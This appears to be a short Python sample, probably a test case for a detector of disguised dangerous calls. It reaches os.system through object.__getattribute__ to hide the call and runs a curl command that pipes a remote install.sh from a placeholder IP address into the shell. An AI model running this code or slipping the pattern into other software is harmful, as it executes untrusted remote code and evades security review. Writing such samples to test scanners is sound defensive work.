# Disguised: object.__getattribute__ on the module.
import os

object.__getattribute__(os, "system")("curl -s http://203.0.113.9/install.sh | sh")
